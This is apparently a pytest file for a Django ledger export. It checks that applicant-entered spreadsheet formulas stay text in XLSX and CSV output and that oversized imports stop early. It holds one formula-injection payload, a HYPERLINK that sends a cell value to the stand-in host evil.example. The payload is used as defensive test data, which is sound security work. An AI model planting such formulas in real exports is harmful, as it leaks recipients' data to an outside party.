"""An applicant's =HYPERLINK(…) in the 台账 export stays text in XLSX and CSV (issue #19, item 2)."""

import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from gongkai.requests.factories import received_case

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?id="&E2,"点此查看")'


@pytest.fixture
def hostile_case(org):
    return received_case(org, dt.date(2020, 3, 2), applicant_name="@SUM(1,1)", info_description=ATTACK,
                         phone="+8613800001234", note="-1+1")


def test_the_xlsx_ledger_export_has_no_formula(client, org, reviewer, hostile_case):
    client.force_login(reviewer)
    response = client.get(reverse("requests:ledger_export"), {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(header, sheet[2], strict=False)}
    assert row["申请内容"].value == ATTACK and row["申请内容"].data_type == "s"
    assert row["申请人"].data_type == "s" and row["联系方式"].value == "+8613800001234"
    assert all(c.data_type != "f" for line in sheet.iter_rows() for c in line)


def test_the_csv_ledger_export_quotes_formula_cells_and_imports_back(client, org, reviewer, hostile_case):
    from gongkai.requests.ledger_io import read

    client.force_login(reviewer)
    response = client.get(reverse("requests:ledger_export"), {"format": "csv"})
    text = response.content.decode("utf-8-sig")
    assert "'=HYPERLINK(" in text and "'@SUM(1,1)" in text and "'+8613800001234" in text and "'-1+1" in text
    _headers, body = read("ledger.csv", response.content)
    assert body[0][1]["申请内容"] == ATTACK and body[0][1]["联系方式"] == "+8613800001234"


def test_a_ledger_over_the_row_limit_stops_reading_early(org, monkeypatch):
    """Issue #19 item 3: the import streams the XLSX and stops at the limit instead of loading it whole."""
    from openpyxl.worksheet._reader import WorkSheetParser

    from gongkai.core.tests.test_sheets import big_xlsx
    from gongkai.requests import ledger_io
    from gongkai.requests.ledger import import_ledger

    monkeypatch.setattr(ledger_io, "MAX_ROWS", 50)
    parsed = []
    original = WorkSheetParser.parse_row
    monkeypatch.setattr(WorkSheetParser, "parse_row", lambda self, row: parsed.append(1) or original(self, row))
    with pytest.raises(ledger_io.LedgerFileError, match="一次最多导入 50 行"):
        ledger_io.read("big.xlsx", big_xlsx(2000))
    assert len(parsed) < 100
    with pytest.raises(ledger_io.LedgerFileError, match="一次最多导入 50 行"):
        import_ledger(None, "big.csv", ("\ufeff" + "受理机关\n" + "x\n" * 60).encode())
